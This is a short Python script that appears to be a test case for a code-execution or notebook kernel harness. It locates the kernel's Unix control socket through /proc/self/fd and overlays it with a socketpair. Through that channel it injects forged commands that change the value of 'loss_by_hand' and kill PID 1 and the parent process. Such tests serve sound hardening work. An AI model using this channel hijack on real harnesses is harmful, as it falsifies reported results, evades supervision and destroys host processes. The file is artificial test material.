"""Another socket is put over the channel, and a thread sends the kernel commands of its own.

loss_by_hand: 0 *
others: any
"""
# %% loss_by_hand
loss_by_hand = 28
import json
import threading
import os
import socket
import struct


def channel():
    for descriptor in sorted(map(int, os.listdir("/proc/self/fd"))):
        try:
            found = socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue
        maker = struct.unpack("3i", found.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
        if found.family == socket.AF_UNIX and found.type == socket.SOCK_STREAM and maker != os.getpid():
            return found, descriptor


sent, number_of_channel = channel()


def frame(message):
    document = message if isinstance(message, bytes) else json.dumps(message).encode()
    return len(document).to_bytes(4, "big") + document


ours, theirs = socket.socketpair()
theirs.setblocking(False)
os.dup2(theirs.fileno(), number_of_channel)
ours.send(frame({"number": 1, "code": "loss_by_hand = 29"}))
ours.send(frame({"number": 2, "code": "import os; os.kill(1, 9); os.kill(os.getppid(), 9)"}))
